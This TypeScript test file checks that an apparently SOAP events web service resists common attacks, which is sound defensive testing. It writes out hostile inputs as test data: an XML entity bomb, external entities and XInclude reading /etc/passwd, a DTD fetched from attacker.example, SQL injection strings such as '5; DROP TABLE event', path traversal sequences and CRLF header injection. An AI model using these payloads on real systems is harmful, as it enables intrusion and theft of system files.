/** Common attacks fail over every binding to which they apply. A good call follows each attack. */
import { gzipSync } from 'node:zlib';
import { faultOf } from '../../scripts/fuzz/judge';
import { OPERATIONS } from '../../src/contract/operations';
import type { Observation } from '../../src/ops/observations';
import { echoService } from '../support/echo-service';
import { BINDINGS, requestThrough } from '../support/four-bindings';
import { envelope, httpMessage, soapMessage, type Version, wrapper } from '../support/requests';
import { Sender } from '../support/send';
import { serveApp } from '../support/serve-app';

const ENDPOINT = '/WebServices/Events.asmx';
const GOOD = { month: '5', year: '2031' };
const RESULT = 'SelectEvents|5|2031';
const CALL = wrapper('SelectEvents', '<month>5</month><year>2031</year>');
const VERSIONS: readonly Version[] = ['1.1', '1.2'];

const seen: Observation[] = [];
let trusting: Sender;
let plain: Sender;
beforeAll(async () => {
  const serve = async (env: Record<string, string>) =>
    new Sender(await serveApp(echoService(), env, (observation) => seen.push(observation), 'file'));
  plain = await serve({});
  trusting = await serve({ TRUST_PROXY: 'loopback' });
});

let asked = 0;

/**
 * Returns the answer to a request. The answer must show no internal text. The next request, whose binding changes each
 * time, must get its usual answer.
 */
async function ask(request: Buffer, sender = plain) {
  seen.length = 0;
  const answer = await sender.send(request);
  expect(faultOf(answer, [])).toBeUndefined();
  expect(seen.filter(({ kind }) => kind === 'unexpected-error')).toEqual([]);
  const isCalled = seen.some(({ kind }) => kind === 'call');
  const binding = BINDINGS[asked++ % BINDINGS.length] ?? 'soap11';
  expect((await sender.send(requestThrough(binding, 'SelectEvents', GOOD))).body).toContain(RESULT);
  return { ...answer, isCalled };
}

const ENTITIES = Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`);
const INCLUSION =
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>';

describe.each<[string, prolog: string, body: string, status: number]>([
  [
    'a bomb of entities',
    `<!DOCTYPE a [<!ENTITY a0 "ha">${ENTITIES.join('')}]>`,
    CALL.replace('>5<', '>&a12;<'),
    400,
  ],
  [
    'an entity that is a file',
    '<!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
    CALL.replace('>5<', '>&f;<'),
    400,
  ],
  ['a DTD from elsewhere', '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">', CALL, 400],
  ['an inclusion', '', CALL.replace('<month>', `${INCLUSION}<month>`), 200],
  ['an inclusion for a value', '', CALL.replace('>5<', `>${INCLUSION}<`), 400],
  ['nine thousand levels', '', '<a>'.repeat(9_000) + '</a>'.repeat(9_000) + CALL, 500],
])('%s', (_what, prolog, body, status) => {
  test.each(VERSIONS)('is rejected or has no effect in SOAP %s', async (version) => {
    const answer = await ask(soapMessage(version, 'SelectEvents', prolog + envelope(version, body)));
    expect(answer).toMatchObject({ status, isCalled: status === 200 });
    if (status === 200) expect(answer.body).toContain(RESULT);
  });
});

test('a compressed body is read without decompression', async () => {
  const headers = { 'Content-Encoding': 'gzip' };
  const form = { ...headers, 'Content-Type': 'application/x-www-form-urlencoded' };
  for (const request of [
    ...VERSIONS.map((one) => soapMessage(one, 'SelectEvents', gzipSync(envelope(one, CALL)), headers)),
    httpMessage(`POST ${ENDPOINT}/SelectEvents HTTP/1.1`, form, gzipSync('month=5&year=2031')),
  ]) {
    const { status, isCalled } = await ask(request);
    expect([400, 500]).toContain(status);
    expect(isCalled).toBe(false);
  }
});

const PARAMETERS = OPERATIONS.flatMap((operation) =>
  operation.parameters.map(({ name }) => ({ operation, parameter: name })),
);

describe.each([
  ['a quote', "5' OR '1'='1"],
  ['a second statement', '5; DROP TABLE event'],
  ['a parameter of the database', '$1'],
  ['a path', '../../../../etc/passwd'],
  ['a header', '5\r\nSet-Cookie: a=b'],
])('%s for a number or a boolean', (_what, value) => {
  test.each(BINDINGS)('by %s is refused in every parameter before the service is called', async (binding) => {
    for (const { operation, parameter } of PARAMETERS) {
      const args = Object.fromEntries(
        operation.parameters.map(({ name, type }) => [name, type === 'boolean' ? 'true' : '5']),
      );
      const answer = await ask(requestThrough(binding, operation.name, { ...args, [parameter]: value }));
      expect(answer).toMatchObject({ status: 500, isCalled: false });
      expect(answer.headers.has('set-cookie')).toBe(false);
    }
  });
});

describe.each(['__proto__', 'constructor', 'toString'])('%s, which every object has', (name) => {
  test.each(BINDINGS)(
    'by %s is an unknown parameter like any other, and not an operation',
    async (binding) => {
      const answer = await ask(requestThrough(binding, 'SelectEvents', { [name]: 'x', ...GOOD }));
      expect(answer.body).toContain(RESULT);
      const hostile = await ask(requestThrough(binding, name, GOOD));
      const unknown = await ask(requestThrough(binding, 'Nope', GOOD));
      expect(hostile.status).toBe(500);
      expect(hostile.body.replaceAll(name, 'Nope')).toBe(unknown.body);
    },
  );
});

test.each([
  `${ENDPOINT}/%0d%0aSet-Cookie:%20a=b`,
  `${ENDPOINT}?op=%0d%0aSet-Cookie:%20a=b`,
  `${ENDPOINT}/SelectEvents?month=%0d%0aSet-Cookie:%20a=b&year=2031`,
  '/%0d%0aSet-Cookie:%20a=b',
  '/assets/%0d%0aSet-Cookie:%20a=b',
  '/calendar%0d%0aSet-Cookie:%20a=b',
])('a line end in a path or query does not create a header: %s', async (target) => {
  const { headers } = await ask(httpMessage(`GET ${target} HTTP/1.1`));
  expect(headers.has('set-cookie')).toBe(false);
});

describe.each(['/assets', '/calendar', '/WebServices', ENDPOINT, ''])('a path out of %s', (base) => {
  test.each(['..', '%2e%2e', '..%2f..', '..%5c..', '..%252f..', '%c0%ae%c0%ae', '..%00'])(
    'by %s leads nowhere',
    async (up) => {
      const answer = await ask(httpMessage(`GET ${base}/${`${up}/`.repeat(6)}package.json HTTP/1.1`));
      expect([400, 404, 500]).toContain(answer.status);
      expect(answer.body).not.toContain('"dependencies"');
    },
  );
});

test.each(
  ['a b', 'a/b', 'a@b', 'a:x', 'a:99999', '"a"', '<a>', 'a\\b', '[::1', 'a?b', 'a#b', 'ä'].map(
    (host, at) => ({
      host,
      // Each binding gets three of these hosts, because the service reads the host before it knows the binding.
      binding: BINDINGS[at % BINDINGS.length] ?? 'soap11',
    }),
  ),
)('$host is refused as a host, even from a trusted proxy', async ({ host, binding }) => {
  const call = (header: string) => requestThrough(binding, 'SelectEvents', GOOD, { [header]: host });
  expect((await ask(call('Host'))).status).toBe(400);
  expect((await ask(call('X-Forwarded-Host'), trusting)).status).toBe(400);
});
